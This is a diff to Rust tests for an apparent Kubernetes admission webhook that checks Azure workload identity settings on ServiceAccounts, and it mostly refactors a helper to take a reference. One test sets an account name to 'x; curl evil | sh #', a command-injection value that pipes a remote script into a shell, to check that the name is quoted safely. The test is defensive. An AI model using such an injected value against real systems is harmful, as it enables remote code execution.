@@ -108,7 +108,7 @@ fn labelled(change: impl FnOnce(&mut Value)) -> Value {
     })
 }
 
-fn created(account: Value) -> Value {
+fn created(account: &Value) -> Value {
     json!({"uid": "1", "kind": {"group": "", "version": "v1", "kind": "ServiceAccount"},
         "resource": {"group": "", "version": "v1", "resource": "serviceaccounts"},
         "namespace": "default", "operation": "CREATE", "userInfo": {}, "object": account})
@@ -175,13 +175,13 @@ fn cases() -> Vec<(Value, Option<Value>, Value)> {
             own(),
             yada(|pod| pod["metadata"]["labels"]["azure.workload.identity/use"] = json!(true)),
         ),
-        (settings(), None, created(account_with("client-id", &format!("\"{CLIENT_ID}\"")))),
-        (settings(), None, created(account_with("tenant-id", "contoso"))),
+        (settings(), None, created(&account_with("client-id", &format!("\"{CLIENT_ID}\"")))),
+        (settings(), None, created(&account_with("tenant-id", "contoso"))),
         (
             settings(),
             None,
-            created(unlabelled(|account| {
-                account["metadata"]["labels"]["azure.workload.identity/use"] = json!(true)
+            created(&unlabelled(|account| {
+                account["metadata"]["labels"]["azure.workload.identity/use"] = json!(true);
             })),
         ),
         (
@@ -233,7 +233,7 @@ fn quotes_a_name_for_the_shell() {
     let mut account = account_with("client-id", "x");
     let name = "x; curl evil | sh #";
     account["metadata"]["name"] = json!(name);
-    let mut request = created(account.clone());
+    let mut request = created(&account);
     request["operation"] = json!("UPDATE");
     request["oldObject"] = yada_account();
     let (message, _) = refused(&settings(), &request, nobody());
